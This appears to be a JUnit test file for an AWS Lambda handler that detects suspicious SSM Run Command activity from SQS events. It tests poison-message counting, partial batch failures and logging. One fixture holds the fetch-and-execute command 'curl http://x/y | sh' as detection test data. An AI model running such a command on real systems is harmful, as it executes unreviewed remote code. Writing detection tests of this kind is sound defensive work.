package io.runwatch.aws;

import static org.assertj.core.api.Assertions.assertThat;

import com.amazonaws.services.lambda.runtime.events.SQSBatchResponse;
import com.amazonaws.services.lambda.runtime.events.SQSEvent;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class SqsDetectHandlerTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  private final CapturingContext context = new CapturingContext();
  private final InMemoryDetection ports =
      new InMemoryDetection(java.time.Instant.parse("2025-02-19T16:33:00Z"));

  private SqsDetectHandler handler() {
    return new SqsDetectHandler(() -> ports.detection);
  }

  private static SQSEvent.SQSMessage message(String id, String body) {
    SQSEvent.SQSMessage m = new SQSEvent.SQSMessage();
    m.setMessageId(id);
    m.setBody(body);
    m.setEventSource("aws:sqs");
    return m;
  }

  private static SQSEvent batch(SQSEvent.SQSMessage... messages) {
    SQSEvent event = new SQSEvent();
    event.setRecords(Arrays.asList(messages));
    return event;
  }

  private static List<String> failedIds(SQSBatchResponse response) {
    return response.getBatchItemFailures().stream()
        .map(SQSBatchResponse.BatchItemFailure::getItemIdentifier)
        .toList();
  }

  @Test
  void poisonMessageIsCountedNotRetried() throws IOException {
    SQSEvent event =
        batch(
            message("good-1", Events.text(Events.SEND_COMMAND)),
            message("poison-1", Events.brokenSendCommand()));

    SQSBatchResponse response = handler().handleRequest(event, context);

    assertThat(response.getBatchItemFailures()).isEmpty();
    JsonNode line = JSON.readTree(context.onlyLine());
    assertThat(line.path("handler").asText()).isEqualTo("SqsDetectHandler");
    assertThat(line.path("messages").asInt()).isEqualTo(2);
    assertThat(line.path("commands").asInt()).isEqualTo(1);
    assertThat(line.path("poison").asInt()).isEqualTo(1);
    assertThat(line.path("failed").asInt()).isZero();
    assertThat(line.path("errors").get(0).path("kind").asText()).isEqualTo("MALFORMED_JSON");
    assertThat(context.onlyLine()).doesNotContain("bobson").doesNotContain("1.2.3.4");
  }

  @Test
  void truncatedBodyIsPoisonToo() throws IOException {
    String whole = Events.text(Events.SEND_COMMAND);
    SQSEvent event = batch(message("cut-1", whole.substring(0, whole.length() / 2)));

    SQSBatchResponse response = handler().handleRequest(event, context);

    assertThat(response.getBatchItemFailures()).isEmpty();
    assertThat(JSON.readTree(context.onlyLine()).path("poison").asInt()).isEqualTo(1);
  }

  @Test
  void onlyMessagesWhoseProcessingThrewAreHandedBack() throws IOException {
    // The real detection; the notification service fails for the one message with a finding.
    ports.content.script(
        "f49a1fe5-d12b-4ac0-98bc-0e4bd83d70c0", "AWS-RunShellScript", "curl http://x/y | sh");
    ports.notifier.failNext(100);
    SQSEvent event =
        batch(
            message("throws-1", Events.text(Events.SEND_COMMAND)),
            message("status-1", Events.text(Events.INVOCATION_STATUS)),
            message("poison-1", Events.brokenSendCommand()));

    SQSBatchResponse response = handler().handleRequest(event, context);

    assertThat(failedIds(response)).containsExactly("throws-1");
    JsonNode line = JSON.readTree(context.onlyLine());
    assertThat(line.path("messages").asInt()).isEqualTo(3);
    assertThat(line.path("failed").asInt()).isEqualTo(1);
    assertThat(line.path("poison").asInt()).isEqualTo(1);
    assertThat(line.path("statuses").asInt()).isEqualTo(1);
  }

  @Test
  void emptyBatchStillLogsEveryCount() throws IOException {
    SQSBatchResponse response = handler().handleRequest(new SQSEvent(), context);

    assertThat(response.getBatchItemFailures()).isEmpty();
    JsonNode line = JSON.readTree(context.onlyLine());
    for (String count : List.of("messages", "poison", "failed", "records", "commands")) {
      assertThat(line.has(count)).as(count).isTrue();
      assertThat(line.path(count).asInt()).as(count).isZero();
    }
  }
}
